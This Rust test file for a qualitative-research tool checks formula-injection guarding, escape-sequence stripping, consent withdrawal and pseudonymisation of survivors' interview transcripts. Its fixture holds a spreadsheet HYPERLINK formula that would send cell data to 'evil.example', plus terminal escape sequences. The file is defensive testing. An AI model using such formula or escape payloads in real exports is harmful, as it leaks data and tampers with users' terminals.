//! Protecting participants: safe exports (formula cells, terminal escape
//! sequences, owner-only output files).

use crate::util::Study;

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?q="&E2,"Click here")"#;

/// A study whose transcripts carry a spreadsheet formula and terminal
/// escape sequences, as a hostile or careless transcript could.
fn hostile() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Safety
themes:
  - id: family
    label: Family
    codes:
      - id: police
        label: Goes to the police
        match:
          any: [policía, police, HYPERLINK]
",
    )
    .file(
        "transcripts/r01.txt",
        &format!(
            "\
Entrevistadora: ¿Qué hizo su familia?
R01: Mi mamá fue a la policía todos los días.

{HYPERLINK}

=1+1 dijo la policía
"
        ),
    )
    .file(
        "transcripts/r02.txt",
        "\
Interviewer: What happened then?
R02: The police\u{1b}]0;pwned\u{7}\u{1b}[2J never came back.\u{7}
",
    );
    s.run(&["code"]).ok();
    s
}

#[test]
fn csv_cells_that_start_like_formulas_are_written_as_text() {
    let s = hostile();
    let quoted = format!("\"'{}\"", HYPERLINK.replace('"', "\"\""));
    // The coding sheet a coder opens in a spreadsheet.
    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
    assert!(sheet.contains(&format!(",{quoted},h")), "{sheet}");
    assert!(sheet.contains(",'=1+1 dijo la policía,h"), "{sheet}");
    assert!(!sheet.contains(&format!(",{},", HYPERLINK.replace('"', "\"\""))));
    // Quotes and the tidy export.
    let quotes = s
        .run(&["quote", "police", "--format", "csv"])
        .ok()
        .to_string();
    assert!(quotes.contains(&format!(",{quoted}\n")), "{quotes}");
    assert!(quotes.contains(",'=1+1 dijo la policía\n"), "{quotes}");
    let export = s.run(&["export", "--format", "csv"]).ok().to_string();
    assert!(export.contains(&quoted), "{export}");
    assert!(!export.contains(",=1+1"), "{export}");
    // Counts stay plain integers.
    assert_eq!(
        s.run(&["matrix", "--format", "csv"]).ok(),
        "code,r01,r02,total\nfamily,3,1,4\nfamily/police,3,1,4\n"
    );
}

#[test]
fn a_coding_sheet_with_guarded_cells_reads_back() {
    let s = hostile();
    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
    // The coder marks the formula-like excerpt and saves the sheet.
    let marked: String = sheet
        .lines()
        .map(|l| {
            if l.contains("'=1+1") {
                format!("{l}x\n")
            } else {
                format!("{l}\n")
            }
        })
        .collect();
    s.file("codings/ana.csv", &marked);
    let out = s.run(&["code"]);
    out.ok();
    assert!(!out.stderr.contains("warning"), "{}", out.stderr);
}

/// A path in the study folder for `--output`.
fn out(s: &Study, name: &str) -> String {
    s.path().join(name).display().to_string()
}

/// The cells of the first worksheet's XML that hold formulas (`<f>`).
fn formulas(xlsx: &[u8]) -> Vec<String> {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut xml = String::new();
    zip.by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml.match_indices("<f>")
        .map(|(i, _)| xml[i..].to_string())
        .collect()
}

#[test]
fn workbooks_hold_formula_like_quotes_as_text() {
    let s = hostile();
    s.run(&[
        "matrix",
        "--cell",
        "quote",
        "--width",
        "200",
        "--format",
        "xlsx",
        "--output",
        &out(&s, "m.xlsx"),
    ])
    .ok();
    let bytes = std::fs::read(s.path().join("m.xlsx")).unwrap();
    assert_eq!(formulas(&bytes), Vec::<String>::new());
    let rows = crate::util::sheet_rows(&bytes, "m.xlsx");
    assert!(
        rows.iter().flatten().any(|c| c.starts_with("Mi mamá")),
        "{rows:?}"
    );
    s.run(&[
        "sheet",
        "--coder",
        "ana",
        "--format",
        "xlsx",
        "--output",
        &out(&s, "ana.xlsx"),
    ])
    .ok();
    let bytes = std::fs::read(s.path().join("ana.xlsx")).unwrap();
    assert_eq!(formulas(&bytes), Vec::<String>::new());
    let rows = crate::util::sheet_rows(&bytes, "ana.xlsx");
    assert!(rows.iter().flatten().any(|c| c == HYPERLINK), "{rows:?}");
    assert!(
        rows.iter().flatten().any(|c| c == "=1+1 dijo la policía"),
        "{rows:?}"
    );
}

#[test]
fn escape_sequences_in_transcripts_never_reach_the_terminal() {
    let s = hostile();
    for args in [
        &["quote", "police"][..],
        &["quote", "police", "--format", "markdown"],
        &["search", "police"],
        &["search", "police", "--format", "markdown"],
        &["matrix", "--cell", "quote", "--width", "200"],
        &[
            "matrix", "--cell", "quote", "--width", "200", "--format", "markdown",
        ],
    ] {
        let out = s.run(args);
        let text = out.ok();
        assert!(
            !text.contains(['\u{1b}', '\u{7}']),
            "{args:?} printed a control character: {text:?}"
        );
        assert!(text.contains("never came"), "{args:?}: {text}");
    }
    assert!(s
        .run(&["quote", "police"])
        .ok()
        .contains("  The police never came back.\n"));
    // JSON escapes them; scripts get the text as it is.
    let json = s
        .run(&["quote", "police", "--format", "json"])
        .ok()
        .to_string();
    assert!(
        json.contains(r"The police\u001b]0;pwned\u0007\u001b[2J never"),
        "{json}"
    );
}

#[test]
fn error_messages_quoting_a_file_strip_escape_sequences() {
    let s = hostile();
    s.file(
        "codings/ana.csv",
        "id,fam\u{1b}[2Jily\ntranscripts/r01.txt:2,x\n",
    );
    let err = s.run(&["code"]);
    assert_eq!(
        err.bad_input().lines().next(),
        Some("error: column `family` is not a code of the codebook")
    );
}

#[cfg(unix)]
#[test]
fn output_files_are_readable_by_their_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let s = hostile();
    s.run(&["matrix", "--format", "csv", "--output", &out(&s, "m.csv")])
        .ok();
    s.run(&["export", "--format", "json", "--output", &out(&s, "e.json")])
        .ok();
    s.run(&["sheet", "--coder", "ana", "--output", &out(&s, "ana.csv")])
        .ok();
    for f in ["m.csv", "e.json", "ana.csv"] {
        let mode = std::fs::metadata(s.path().join(f))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{f}");
    }
}

/// Three interviews and a focus group; R07 is the one who will withdraw.
fn consent() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Family
themes:
  - id: family
    label: Family
    codes:
      - id: support
        label: Family support
        match:
          any: [apoy*, ayud*, support*]
      - id: money
        label: Money
        match:
          any: [dinero, plata, money]
",
    )
    .file(
        "transcripts/r01.txt",
        "\
---
respondent: R01
---
Entrevistadora: ¿Quién la apoyó al volver?
R01: Mi hermana me apoyó con dinero para el pasaje.
",
    )
    .file(
        "transcripts/r02.txt",
        "\
---
respondent: R02
---
Interviewer: Who supported you?
R02: Nobody supported me at first. Later my cousin helped with money.
",
    )
    .file(
        "transcripts/r07.txt",
        "\
---
respondent: R07
village: Inambari
---
Entrevistadora: ¿Quién la apoyó?
R07: Me escondí en la panadería de doña Eulalia en Mazuko y ella me apoyó.

Después me dio plata para el bus.
",
    )
    .file(
        "transcripts/fg01.txt",
        "\
---
speakers: {Ana: R03, Rosa: R07}
---
Moderadora: ¿Quién las apoyó?
Ana: Mi tía me apoyó cuando volví.
Rosa: El chofer del camión azul de Quincemil me ayudó a escapar.
",
    )
    .file(
        "thematic.yaml",
        "interviewer: [Interviewer, Entrevistadora, Moderadora]\n",
    )
    .file(
        "respondents.csv",
        "id,role,withdrawn\nR01,survivor,\nR02,survivor,no\nR03,relative,\nR07,survivor,\n",
    );
    s
}

/// Every text file of a zip package, one after the other.
fn unzipped(bytes: &[u8]) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut all = String::new();
    for i in 0..zip.len() {
        let mut text = String::new();
        if zip.by_index(i).unwrap().read_to_string(&mut text).is_ok() {
            all.push_str(&text);
        }
    }
    all
}

/// Whether any file under `.thematic/` holds `needle` (as bytes).
fn in_derived_data(s: &Study, needle: &str) -> Vec<String> {
    fn walk(dir: &std::path::Path, needle: &[u8], out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            if p.is_dir() {
                walk(&p, needle, out);
            } else {
                let bytes = std::fs::read(&p).unwrap();
                if bytes.windows(needle.len()).any(|w| w == needle) {
                    out.push(p.display().to_string());
                }
            }
        }
    }
    let mut out = Vec::new();
    walk(&s.path().join(".thematic"), needle.as_bytes(), &mut out);
    out
}

/// Words only R07 said, and their village. (tantivy compresses its
/// document store, so a whole phrase need not appear as such; each
/// distinctive word does.)
const R07_SAYS: [&str; 4] = ["Eulalia", "Mazuko", "Quincemil", "Inambari"];

#[test]
fn a_withdrawn_respondent_leaves_the_index_and_every_output() {
    let s = consent();
    s.run(&["code"]).ok();
    // Before: R07's words are in the index (the check below can see them).
    for needle in R07_SAYS {
        assert!(!in_derived_data(&s, needle).is_empty(), "{needle}");
    }
    assert_eq!(
        s.run(&["matrix", "--by", "role", "--format", "csv"]).ok(),
        "code,relative,survivor,total\nfamily,1,3,4\nfamily/support,1,3,4\nfamily/money,0,3,3\n"
    );
    // Two coders marked every excerpt at `money`, R07's too.
    let sheet = s
        .run(&["sheet", "--coder", "ana", "--codes", "money"])
        .ok()
        .to_string();
    let marked: String = sheet
        .lines()
        .enumerate()
        .map(|(i, l)| {
            if i == 0 {
                format!("{l}\n")
            } else {
                format!("{l}x\n")
            }
        })
        .collect();
    s.file("codings/ana.csv", &marked);
    s.file("codings/ben.csv", &marked.replace(",ana,", ",ben,"));
    s.run(&["code"]).ok();
    let agree = s.run(&["agree", "--format", "csv"]).ok().to_string();
    assert!(agree.contains("family/money,6,"), "{agree}");
    let consented = s
        .run(&["matrix", "--by", "role", "--format", "csv"])
        .ok()
        .to_string();
    // R07 withdraws consent.
    s.replace("respondents.csv", "R07,survivor,", "R07,survivor,yes");
    let code = s.run(&["code"]);
    code.ok();
    assert!(!code.stderr.contains("warning"), "{}", code.stderr);
    let agree = s.run(&["agree", "--format", "csv"]).ok().to_string();
    assert!(agree.contains("family/money,3,"), "{agree}");
    assert!(
        code.stderr.contains(
            "note: 1 respondent who withdrew consent is withheld from every count, quote and export\n"
        ),
        "{}",
        code.stderr
    );
    for needle in R07_SAYS {
        assert_eq!(
            in_derived_data(&s, needle),
            Vec::<String>::new(),
            "{needle}"
        );
    }
    // Counts and group sizes without R07; Ana's turn in the focus group stays.
    let matrix = s.run(&["matrix", "--by", "role", "--format", "csv"]);
    assert_eq!(
        matrix.ok(),
        "code,relative,survivor,total\nfamily,1,2,3\nfamily/support,1,2,3\nfamily/money,1,2,3\n"
    );
    assert_eq!(
        matrix.stderr,
        "note: 1 respondent who withdrew consent is withheld from every count, quote and export\n"
    );
    assert!(s
        .run(&["matrix", "--by", "role"])
        .ok()
        .contains("survivor (n=2)"));
    let csv = s.run(&["matrix", "--format", "csv"]).ok().to_string();
    assert_eq!(csv.lines().next(), Some("code,R01,R02,R03,total"));
    s.run(&[
        "export",
        "--format",
        "qdpx",
        "--output",
        &out(&s, "study.qdpx"),
    ])
    .ok();
    let qdpx = unzipped(&std::fs::read(s.path().join("study.qdpx")).unwrap());
    assert!(qdpx.contains("Mi tía me apoyó"));
    let quotes = s
        .run(&["quote", "support", "--format", "json"])
        .ok()
        .to_string();
    assert!(quotes.contains("Mi tía me apoyó"), "{quotes}");
    for out in [
        qdpx,
        quotes,
        s.run(&["search", "Eulalia OR Quincemil OR chofer"])
            .ok()
            .to_string(),
        s.run(&["export", "--format", "csv"]).ok().to_string(),
        s.run(&["stats", "--format", "csv"]).ok().to_string(),
        s.run(&["transcripts", "--format", "json"]).ok().to_string(),
        s.run(&["sheet", "--coder", "ana"]).ok().to_string(),
        s.run(&["cooccur", "--format", "csv"]).ok().to_string(),
    ] {
        assert!(!out.contains("R07"), "{out}");
        assert!(
            !out.contains("Eulalia") && !out.contains("Quincemil"),
            "{out}"
        );
    }
    // Consent given back: R07 returns.
    s.replace("respondents.csv", "R07,survivor,yes", "R07,survivor,");
    s.run(&["code"]).ok();
    assert_eq!(
        s.run(&["matrix", "--by", "role", "--format", "csv"]).ok(),
        consented
    );
}

#[test]
fn withdrawn_in_settings_and_unknown_ids() {
    let s = consent();
    s.run(&["code"]).ok();
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer, Entrevistadora, Moderadora]\nwithdrawn: [R07, R7]\n",
    );
    let code = s.run(&["code"]);
    code.ok();
    assert!(
        code.stderr.contains(
            "warning: thematic.yaml:2:18: `withdrawn:` names `R7`, a respondent the study does not have; did you mean `R07`?\n"
        ),
        "{}",
        code.stderr
    );
    for needle in R07_SAYS {
        assert_eq!(
            in_derived_data(&s, needle),
            Vec::<String>::new(),
            "{needle}"
        );
    }
    let out = s.run(&["quote", "family", "--format", "csv"]);
    assert!(!out.ok().contains("R07"), "{}", out.stdout);
    assert!(
        out.stderr.contains("1 respondent who withdrew consent"),
        "{}",
        out.stderr
    );
}

#[test]
fn a_withdrawn_cell_that_is_neither_yes_nor_no_is_refused() {
    let s = consent();
    s.replace("respondents.csv", "R07,survivor,", "R07,survivor,maybe");
    let err = s.run(&["code"]);
    assert_eq!(
        err.bad_input(),
        "error: `maybe` is not a yes or no in the `withdrawn` column\n  --> respondents.csv:5:3\n  = help: write yes (or y, true, 1, x, sí) when the respondent withdrew consent, and leave it blank (or no, false, 0) otherwise\n"
    );
}

const KEY: &str = "\
# real text → replacement; matched like codebook terms
- {find: [Rosa Quispe, Rosa], replace: \"[survivor, 19]\"}
- {find: [Puerto Maldonado], replace: \"[a mining town]\"}
- {find: [R02], replace: \"[P2]\"}
- {find: [Huepetuhe], replace: \"[a river town]\"}
";

/// A study whose transcripts name a survivor and a town, with a key file.
fn named() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Return
themes:
  - id: return
    label: Return
    codes:
      - id: support
        label: Support on return
        match:
          any: [apoy*, support*, help*]
",
    )
    .file(
        "transcripts/r01.txt",
        "\
---
respondent: R01
---
Entrevistadora: ¿Quién la apoyó cuando volvió de Puerto Maldonado?
R01: Mi prima Rosa Quispe me apoyó. ROSA me buscó en PUERTO MALDONADO.
",
    )
    .file(
        "transcripts/r02.txt",
        "\
---
respondent: R02
---
Interviewer: Who helped you?
R02: The pastor helped me, and later rosa quispé supported my mother.
",
    )
    .file("pseudonyms.yaml", KEY);
    owner_only(&s, "pseudonyms.yaml");
    s
}

fn owner_only(s: &Study, rel: &str) {
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let p = s.path().join(rel);
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o600)).unwrap();
    }
    #[cfg(not(unix))]
    let _ = (s, rel);
}

/// True when `out` names the survivor or the town, in any case or accent.
fn identifies(out: &str) -> bool {
    let folded = out.to_lowercase().replace('é', "e");
    ["rosa", "quispe", "maldonado"]
        .iter()
        .any(|n| folded.contains(n))
}

#[test]
fn pseudonyms_replace_names_in_every_output_for_people() {
    let s = named();
    s.run(&["code"]).ok();
    let quote = s.run(&["quote", "support"]);
    assert_eq!(
        quote.ok(),
        "\
transcripts/r01.txt:5 — R01
  codes: return/support
  Mi prima [survivor, 19] me apoyó. [survivor, 19] me buscó en [a mining town].

transcripts/r02.txt:5 — [P2]
  codes: return/support
  The pastor helped me, and later [survivor, 19] supported my mother.
"
    );
    assert_eq!(quote.stderr, "");
    let context = s.run(&["quote", "support", "--context", "--format", "markdown"]);
    assert!(context
        .ok()
        .contains("**Q:** ¿Quién la apoyó cuando volvió de \\[a mining town\\]?"));
    let mut outputs = vec![
        ("quote", quote.stdout.clone()),
        ("quote md", context.stdout.clone()),
    ];
    for args in [
        &["quote", "support", "--format", "csv", "--context"][..],
        &["quote", "support", "--format", "json"],
        &["search", "pastor OR prima"],
        &["search", "pastor OR prima", "--format", "csv"],
        &["matrix", "--cell", "quote", "--width", "200"],
        &["matrix", "--cell", "quote", "--format", "json"],
        &["matrix", "--cell", "quote", "--format", "markdown"],
        &["export", "--format", "csv"],
        &["export", "--format", "json"],
    ] {
        let out = s.run(args).ok().to_string();
        assert!(out.contains("[survivor, 19]"), "{args:?}: {out}");
        outputs.push((args[0], out));
    }
    s.run(&[
        "export",
        "--format",
        "qdpx",
        "--output",
        &out(&s, "study.qdpx"),
    ])
    .ok();
    let qdpx = unzipped(&std::fs::read(s.path().join("study.qdpx")).unwrap());
    assert!(qdpx.contains("[a mining town]"));
    outputs.push(("qdpx", qdpx));
    for (what, out) in &outputs {
        assert!(!identifies(out), "{what} identifies: {out}");
        assert!(!out.contains("R02"), "{what}: {out}");
    }
    // The matrix's respondent columns are renamed too.
    assert!(s
        .run(&["matrix", "--cell", "quote", "--width", "200"])
        .ok()
        .contains("[P2]"));
    // Coding sheets show the originals unless asked.
    let sheet = s.run(&["sheet", "--coder", "ana"]).ok().to_string();
    assert!(sheet.contains("Mi prima Rosa Quispe me apoyó"), "{sheet}");
    let sheet = s
        .run(&["sheet", "--coder", "ana", "--pseudonymise"])
        .ok()
        .to_string();
    assert!(!identifies(&sheet), "{sheet}");
    assert!(sheet.contains(",R02,"), "{sheet}");
    // --identified shows the originals, and says so.
    let identified = s.run(&["quote", "support", "--identified"]);
    assert!(identified
        .ok()
        .contains("Mi prima Rosa Quispe me apoyó. ROSA me buscó en PUERTO MALDONADO."));
    assert_eq!(
        identified.stderr,
        "note: --identified: this output shows real names and places; keep it within the team\n"
    );
    assert!(identifies(s.run(&["export", "--identified"]).ok()));
}

#[test]
fn the_pseudonyms_log_counts_each_term_and_names_the_excerpts() {
    let s = named();
    let log = s.run(&["pseudonyms", "log", "--format", "csv"]);
    assert_eq!(
        log.ok(),
        "\
term,replace,line,count,excerpts,respondents
Rosa Quispe,\"[survivor, 19]\",2,2,transcripts/r01.txt:5;transcripts/r02.txt:5,
Rosa,\"[survivor, 19]\",2,1,transcripts/r01.txt:5,
Puerto Maldonado,[a mining town],3,2,transcripts/r01.txt:5,
R02,[P2],4,2,transcripts/r02.txt:5,R02
Huepetuhe,[a river town],5,0,,
"
    );
    assert!(
        log.stderr
            .contains("warning: pseudonyms.yaml:5: `Huepetuhe` matches nothing in the study; check its spelling\n"),
        "{}",
        log.stderr
    );
}

#[test]
fn the_leak_gate_refuses_an_export_that_still_identifies() {
    let s = named();
    s.file("thematic.yaml", "identifying: [village, phone]\n")
        .file(
            "respondents.csv",
            "id,role,village,phone\nR01,survivor,Mazuko,+51 984 000 111\nR02,survivor,,\n",
        )
        .replace(
            "transcripts/r02.txt",
            "The pastor",
            "The pastor from Mazuko",
        );
    s.run(&["code"]).ok();
    let run = s.run(&["export", "--format", "csv"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert_eq!(run.stdout, "");
    assert_eq!(
        run.stderr,
        "error: the output would still identify participants (1 found; nothing written):\n  transcripts/r02.txt:5: `Mazuko`\n  = help: add these spellings to the pseudonym key file, or reword the replacement; `--identified` exports the originals for the team's own use\n"
    );
    // Never the text around it.
    assert!(!run.stderr.contains("pastor"));
    let run = s.run(&["export", "--format", "qdpx", "--output", &out(&s, "s.qdpx")]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!s.path().join("s.qdpx").exists());
    // Named in the key file, it passes; identifying columns are not exported.
    s.file(
        "pseudonyms.yaml",
        &format!("{KEY}- {{find: [Mazuko], replace: \"[a village]\"}}\n"),
    );
    owner_only(&s, "pseudonyms.yaml");
    let csv = s.run(&["export", "--format", "csv"]).ok().to_string();
    assert!(
        csv.starts_with("id,path,line,respondent,role,question,text,"),
        "{csv}"
    );
    assert!(!csv.contains("Mazuko") && !csv.contains("984"), "{csv}");
}

#[test]
fn bad_key_files_are_refused_and_readable_ones_warned_about() {
    let s = named();
    s.run(&["code"]).ok();
    s.file(
        "pseudonyms.yaml",
        "- {find: [Rosa], replace: \"[a]\"}\n- {find: [], replace: \"[b]\"}\n",
    );
    owner_only(&s, "pseudonyms.yaml");
    assert_eq!(
        s.run(&["quote", "support"]).bad_input(),
        "error: this entry's `find` is empty\n  --> pseudonyms.yaml:2\n  = help: list the names or places to replace, e.g. `find: [Rosa Quispe, Rosa]`\n"
    );
    s.file(
        "pseudonyms.yaml",
        "- {find: [Rosa], replace: \"[Rosa's cousin]\"}\n",
    );
    assert!(s
        .run(&["export"])
        .bad_input()
        .starts_with("error: the replacement \"[Rosa's cousin]\" contains the find term `Rosa`\n  --> pseudonyms.yaml:1\n"));
    s.file("pseudonyms.yaml", "- {find: [Rosa], replace: [x\n");
    assert!(s
        .run(&["quote", "support"])
        .bad_input()
        .contains("--> pseudonyms.yaml:"));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        s.file("pseudonyms.yaml", KEY);
        let p = s.path().join("pseudonyms.yaml");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
        let out = s.run(&["quote", "support"]);
        out.ok();
        assert!(out.stderr.contains(
            "warning: pseudonyms.yaml can be read by other users of this computer; it holds real names: run `chmod 600 pseudonyms.yaml`\n"
        ), "{}", out.stderr);
    }
}

#[test]
fn init_keeps_the_key_file_out_of_git() {
    let dir = tempfile::tempdir().unwrap();
    let study = dir.path().join("study");
    let out = crate::util::run({
        let mut c = crate::util::bin_command();
        c.arg("init").arg(&study);
        c
    });
    out.ok();
    assert_eq!(
        std::fs::read_to_string(study.join(".gitignore")).unwrap(),
        ".thematic/\n# The pseudonym key file holds participants' real names and places:\n# keep it out of git (and readable by its owner only: chmod 600).\npseudonyms.yaml\n"
    );
}

#[test]
fn check_identifiers_lists_the_names_nothing_accounts_for() {
    let s = named();
    s.replace(
        "transcripts/r02.txt",
        "The pastor helped me",
        "Pastor Huamán from Mazuko helped me in 2019, and Huepetuhe",
    );
    let out = s.run(&["check-identifiers", "--format", "csv"]);
    assert_eq!(
        out.ok(),
        "excerpt,words\ntranscripts/r02.txt:5;Pastor;Huamán;Mazuko;2019\n".replacen(';', ",", 1)
    );
    assert!(out
        .stderr
        .ends_with("1 of 2 excerpts have words that no codebook term, key-file term or common word accounts for\n"));
    // Once the key file has them, nothing is left.
    s.file(
        "pseudonyms.yaml",
        &format!("{KEY}- {{find: [Pastor Huamán, Mazuko, \"2019\"], replace: \"[a pastor]\"}}\n"),
    );
    owner_only(&s, "pseudonyms.yaml");
    assert_eq!(
        s.run(&["check-identifiers", "--format", "csv"]).ok(),
        "excerpt,words\n"
    );
}

#[test]
fn chart_summaries_in_the_matrix_are_pseudonymised() {
    let s = named();
    s.file(
        "charts/R01.md",
        "## return/support\nHer cousin Rosa Quispe took her in at Puerto Maldonado [transcripts/r01.txt:5].\n",
    );
    for args in [
        &["matrix", "--cell", "summary", "--width", "200"][..],
        &["matrix", "--cell", "summary", "--format", "json"],
        &["matrix", "--cell", "summary", "--format", "markdown"],
    ] {
        let out = s.run(args).ok().to_string();
        assert!(
            out.contains("Her cousin [survivor, 19] took her in at [a")
                && out.contains("mining town]"),
            "{args:?}: {out}"
        );
        assert!(!identifies(&out), "{args:?}: {out}");
    }
    let out = s
        .run(&[
            "matrix",
            "--cell",
            "summary",
            "--width",
            "200",
            "--identified",
        ])
        .ok()
        .to_string();
    assert!(out.contains("Rosa Quispe"), "{out}");
}

#[test]
fn reports_carry_the_pseudonyms_and_refuse_what_still_identifies() {
    let s = named();
    s.run(&["code"]).ok();
    for format in ["html", "markdown"] {
        let report = s.run(&["report", "--format", format, "--date", "2026-12-01"]);
        let out = report.ok();
        // Markdown escapes the brackets, so that pandoc keeps them.
        let (survivor, town) = match format {
            "html" => ("[survivor, 19]", "[a mining town]"),
            _ => ("\\[survivor, 19\\]", "\\[a mining town\\]"),
        };
        assert!(out.contains(survivor), "{format}: {out}");
        assert!(out.contains(town), "{format}: {out}");
        assert!(!identifies(out), "{format} identifies: {out}");
        assert!(!out.contains("R02"), "{format}: {out}");
    }
    let identified = s.run(&["report", "--format", "markdown", "--identified"]);
    assert!(identifies(identified.ok()));
    assert!(identified
        .stderr
        .contains("--identified: this output shows real names"));
    // A value of an identifying column the key file misses: refused, naming
    // the excerpt and the value, never the text around it.
    s.file("thematic.yaml", "identifying: [village]\n")
        .file(
            "respondents.csv",
            "id,role,village\nR01,survivor,Mazuko\nR02,pastor,\n",
        )
        .replace(
            "transcripts/r02.txt",
            "The pastor",
            "The pastor from Mazuko",
        );
    let refused = s.run(&[
        "report",
        "--format",
        "markdown",
        "--output",
        &out(&s, "r.md"),
    ]);
    assert_eq!(refused.code, 1, "{}", refused.stderr);
    assert!(
        refused.stderr.contains("[P2]") || refused.stderr.contains("transcripts/r02.txt:5"),
        "{}",
        refused.stderr
    );
    assert!(refused.stderr.contains("`Mazuko`"), "{}", refused.stderr);
    assert!(!refused.stderr.contains("pastor"), "{}", refused.stderr);
    assert!(!s.path().join("r.md").exists());
}

/// A study as a team runs it: respondents.csv with a name and a phone
/// column declared identifying, a key file that replaces the names, one
/// respondent who withdrew (N04) and a focus group.
fn trial() -> Study {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "\
codebook: Work
themes:
  - id: work
    label: Work
    codes:
      - id: unpaid
        label: Unpaid work
        match:
          any: [paid, pago, wages]
",
    )
    .file(
        "transcripts/N01.txt",
        "\
Interviewer: Were you paid?
N01: Never paid a cent, said Mr Rawls. The boss kept the wages.
",
    )
    .file(
        "transcripts/N02.txt",
        "\
Interviewer: ¿Le pagaron?
N02: Nunca hubo pago en la finca de Hannay.
",
    )
    .file(
        "transcripts/N04.txt",
        "\
Interviewer: Were you paid?
N04: They paid my brother John Riser, not me.
",
    )
    .file(
        "respondents.csv",
        "id,gender,real_name,phone\n\
         N01,man,Sam Rawls,07700900000\n\
         N02,woman,Timo Hannay,07700900001\n\
         N04,woman,Susie Riser,07700900003\n",
    )
    .file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phone]\nwithdrawn: [N04]\n",
    )
    .file(
        "pseudonyms.yaml",
        "\
- {find: [Sam Rawls, Rawls], replace: \"[narrator A]\"}
- {find: [Timo Hannay], replace: \"[narrator B]\"}
- {find: [Susie Riser, John Riser], replace: \"[narrator D]\"}
",
    );
    owner_only(&s, "pseudonyms.yaml");
    s
}

#[test]
fn a_report_filtered_by_an_identifying_value_is_refused() {
    let s = trial();
    s.run(&["code"]).ok();
    for format in ["html", "markdown"] {
        let r = s.run(&["report", "--format", format, "--where", "phone=07700900000"]);
        assert_eq!(r.code, 1, "{format}: {}", r.stdout);
        assert_eq!(r.stdout, "");
        assert!(
            r.stderr.contains("  the --where filters: `07700900000`\n"),
            "{}",
            r.stderr
        );
        assert!(r.stderr.contains("  the quote commands: `07700900000`\n"));
        assert!(r.stderr.contains("  the method note: `07700900000`\n"));
    }
    // A filter the key file replaces: the method note shows the pseudonym,
    // the quote command goes without the filter and says so.
    let r = s.run(&[
        "report",
        "--format",
        "markdown",
        "--where",
        "real_name=Sam Rawls",
    ]);
    let out = r.ok();
    assert!(
        out.contains("Respondents: only those with real\\_name=\\[narrator A\\] (--where)."),
        "{out}"
    );
    assert!(
        out.contains(
            "these quotes: `thematic quote work/unpaid --limit 3 --per-respondent 3`, adding the report's --where on `real_name` (withheld here: its value names a participant)*"
        ),
        "{out}"
    );
    assert!(
        !out.contains("Rawls") && !out.contains("--where 'real_name"),
        "{out}"
    );
    // With --identified the command is whole again.
    let r = s.run(&[
        "report",
        "--format",
        "markdown",
        "--identified",
        "--where",
        "real_name=Sam Rawls",
    ]);
    assert!(r.ok().contains(
        "`thematic quote work/unpaid --limit 3 --per-respondent 3 --where 'real_name=Sam Rawls'`*"
    ));
}

#[test]
fn a_misspelt_identifying_column_is_refused_by_every_command_that_pseudonymises() {
    let s = trial();
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phones]\n",
    );
    s.run(&["code"]).ok();
    for args in [
        &["export", "--format", "csv"][..],
        &["quote", "unpaid"],
        &["search", "paid"],
        &["matrix", "--cell", "quote"],
        &["report", "--format", "markdown"],
        &["pseudonyms", "log"],
        &["check-identifiers"],
    ] {
        let r = s.run(args);
        let err = r.bad_input();
        assert_eq!(
            err,
            "error: `identifying:` names `phones`, which is not a column of respondents.csv: the column meant would not be protected\n  \
             --> thematic.yaml:2:26\n  \
             = help: did you mean `phone`? Write the column's name exactly as respondents.csv's header has it\n",
            "{args:?}"
        );
        assert!(!r.stdout.contains("0770"), "{args:?}");
    }
}

#[test]
fn a_withdrawn_id_written_another_way_than_a_respondents_is_refused() {
    let s = trial();
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phone]\nwithdrawn: [N4]\n",
    );
    assert_eq!(
        s.run(&["code"]).bad_input(),
        "error: `withdrawn:` names `N4`, who is in no transcript, while `N04` is: `N04`'s words \
         would stay in every output\n  --> thematic.yaml:3:13\n  = help: write the id as the \
         transcripts have it (`withdrawn: [N04]`)\n"
    );
    let quote = s.run(&["quote", "unpaid", "--format", "csv"]);
    assert_eq!(quote.code, 2);
    assert_eq!(quote.stdout, "");
}

#[test]
fn a_misspelt_withdrawn_id_is_warned_about_by_every_command_that_prints_text() {
    let s = trial();
    s.file(
        "thematic.yaml",
        "interviewer: [Interviewer]\nidentifying: [real_name, phone]\nwithdrawn: [N044]\n",
    );
    s.run(&["code"]).ok();
    let warning = "warning: thematic.yaml:3:13: `withdrawn:` names `N044`, a respondent the study does not have; did you mean `N04`?\n";
    for args in [
        &["quote", "unpaid"][..],
        &["search", "paid"],
        &["matrix", "--cell", "quote"],
        &["export", "--format", "csv"],
        &["report", "--format", "markdown"],
        &["stats"],
        &["transcripts"],
    ] {
        let r = s.run(args);
        r.ok();
        assert_eq!(
            r.stderr.matches(warning).count(),
            1,
            "{args:?}: {}",
            r.stderr
        );
    }
}

/// Exit 2 with an error (after any notes), never a panic: the stderr.
trait RefusedAsInput {
    fn refused_as_input(&self) -> String;
}

impl RefusedAsInput for crate::util::Run {
    #[track_caller]
